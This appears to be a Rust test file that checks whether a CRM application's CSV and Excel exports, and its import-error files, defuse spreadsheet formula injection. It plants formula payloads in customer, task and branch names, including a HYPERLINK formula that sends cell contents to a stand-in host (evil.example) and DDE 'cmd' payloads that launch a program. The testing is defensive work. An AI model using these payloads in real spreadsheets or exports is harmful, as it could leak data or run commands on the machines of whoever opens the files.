//! Cells that a spreadsheet would reckon with: whoever opens an export must not run what a customer is called.

use std::io::{Cursor, Read as _};

use serde_json::json;

use crate::on_both;
use crate::testing::TestApp;

use super::World;

on_both!(
    no_cell_of_a_csv_is_a_formula,
    no_cell_of_a_workbook_is_a_formula
);

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
];

/// Customers, people, tags, branches with such names.
async fn plant(t: &TestApp, world: &World) {
    let chief = world.chief(t);
    for (n, formula) in FORMULAS.iter().enumerate() {
        let customer = json!({
            "name": formula, "kind": "person", "stage": "known", "branch_id": t.org.tianfu, "do_not_call": false,
            "keep_address": false, "keep_birthday": false, "tags": [formula.chars().take(20).collect::<String>()], "consents": [], "emails": [],
            "phones": [{ "number": format!("1390013900{n}"), "primary": true, "do_not_use": false }],
        });
        let made = chief.post("/api/v1/customers", customer).await.ok();
        let asset = json!({ "kind": "equipment", "serial": format!("S{n}"), "model": formula });
        let path = format!(
            "/api/v1/customers/{}/assets",
            made["row"]["id"].as_str().unwrap()
        );
        chief.post(&path, asset).await.ok();
        let task = json!({
            "customer_id": made["row"]["id"], "kind": "care", "channel": "phone", "purpose": formula,
            "due_at": t.now_ms() + 60_000,
        });
        chief.post("/api/v1/tasks", task).await.ok();
    }
    let admin = t.as_role("administrator");
    let branches = admin.get("/api/v1/branches").await.ok();
    let mut branch = branches
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["id"] == json!(t.org.tianfu))
        .unwrap()
        .clone();
    let fields = branch.as_object_mut().unwrap();
    fields.retain(|name, _| {
        [
            "parent_id",
            "code",
            "name",
            "kind",
            "zone",
            "active",
            "version",
        ]
        .contains(&name.as_str())
    });
    fields.insert("name".into(), json!(FORMULAS[0]));
    admin
        .put(&format!("/api/v1/branches/{}", t.org.tianfu), branch)
        .await
        .ok();
}

fn assert_no_formula(bytes: &[u8], least: usize) {
    let text = std::str::from_utf8(bytes)
        .unwrap()
        .trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let (mut cells, mut defused) = (0, 0);
    for record in reader.records() {
        for cell in &record.unwrap() {
            cells += 1;
            defused += usize::from(cell.starts_with('\''));
            let formula =
                cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
            assert!(!formula || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
    }
    assert!(
        cells > 10 && defused >= least,
        "{defused} of {cells}:\n{text}"
    );
}

async fn no_cell_of_a_csv_is_a_formula(t: TestApp) {
    let world = World::of(&t).await;
    plant(&t, &world).await;
    let export = world
        .chief(&t)
        .get("/api/v1/customers/export?format=csv")
        .await;
    assert_eq!(export.status(), 200);
    assert_no_formula(export.bytes(), 15);

    // Refused lines come back as they came, with the file's own headings.
    let mut file = String::from("姓名,=2+3,@x,电话\n");
    for formula in FORMULAS {
        file.push_str(&format!(
            "\"{}\",\"{0}\",,不是电话\n",
            formula.replace('"', "\"\"")
        ));
    }
    let chief = world.chief(&t);
    let import = chief
        .upload(
            "/api/v1/imports",
            "=1.csv",
            file.as_bytes(),
            &[("kind", "customers")],
        )
        .await
        .ok();
    let path = format!("/api/v1/imports/{}", import["id"].as_str().unwrap());
    chief
        .post(
            &format!("{path}/check"),
            json!({ "version": import["version"] }),
        )
        .await
        .ok();
    t.run_jobs().await;
    let errors = chief.get(&format!("{path}/errors.csv")).await;
    assert_eq!(errors.status(), 200);
    assert_no_formula(errors.bytes(), 8);
}

async fn no_cell_of_a_workbook_is_a_formula(t: TestApp) {
    let world = World::of(&t).await;
    plant(&t, &world).await;
    t.run_jobs().await;
    for (path, planted) in [
        ("/api/v1/customers/export?format=xlsx", true),
        (
            "/api/v1/rates/export?from=2026-11-01&to=2026-11-30&by=branch",
            false,
        ),
        (
            "/api/v1/rates/export?from=2026-11-01&to=2026-11-30&by=agent",
            false,
        ),
    ] {
        let export = world.chief(&t).get(path).await;
        assert_eq!(export.status(), 200, "{path}: {}", export.text());
        let mut book = zip::ZipArchive::new(Cursor::new(export.bytes())).unwrap();
        let mut all = String::new();
        for part in 0..book.len() {
            let mut part = book.by_index(part).unwrap();
            let name = part.name().unwrap().into_owned();
            assert!(
                !name.contains("vba") && !name.contains("externalLink"),
                "{name}"
            );
            let mut text = String::new();
            part.read_to_string(&mut text).unwrap();
            if name.contains("worksheets/") {
                assert!(
                    !text.contains("<f>") && !text.contains("<f ") && !text.contains("<hyperlink"),
                    "{path} {name}: {text}"
                );
            }
            all.push_str(&text);
        }
        assert!(
            !planted || all.contains("=HYPERLINK("),
            "{path}: the names are missing"
        );
    }
}
